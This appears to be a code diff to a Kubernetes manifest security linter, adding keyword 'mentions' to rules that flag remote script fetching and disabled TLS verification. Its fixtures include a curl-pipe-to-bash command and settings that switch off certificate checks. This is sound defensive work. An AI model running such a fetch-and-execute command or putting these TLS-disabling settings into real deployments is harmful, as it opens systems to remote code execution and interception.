@@ -10,7 +10,7 @@ from hullmark.linter.finding import Profile, Severity
 from hullmark.linter.manifest.commands import Program, Text, command_texts
 from hullmark.linter.manifest.place import Place, Placed
 from hullmark.linter.manifest.pod import Container, PodSpec
-from hullmark.linter.rule import Hit, Rule, in_container
+from hullmark.linter.rule import QUOTED, Hit, Rule, in_container
 from hullmark.linter.rule.pod_rows import PodRow, pod_hit
 
 _FETCHES = frozenset({"curl", "wget", "fetch"})
@@ -208,6 +208,7 @@ RULES = (
         _fetched,
         severity=Severity.MEDIUM,
         controls=("MITRE/T1105", "MITRE/T1195.002"),
+        mentions=(*sorted(_FETCHES), QUOTED),
         bad=(
             in_container(
                 "command: [sh, -c, 'curl -sL https://get.example/i.sh | bash']  # ! fetches from 'get.example'"
@@ -230,6 +231,7 @@ RULES = (
         _unverified,
         severity=Severity.MEDIUM,
         controls=("MITRE/T1557",),
+        mentions=(*_ENV, *_UNVERIFIED, "curl", "--no-check-certificate", QUOTED),
         bad=(
             in_container("env:\n  - name: NODE_TLS_REJECT_UNAUTHORIZED\n    value: '0'  # ! with NODE_TLS_REJECT"),
             in_container("args:\n  - --insecure-skip-tls-verify  # ! turns off the verification"),
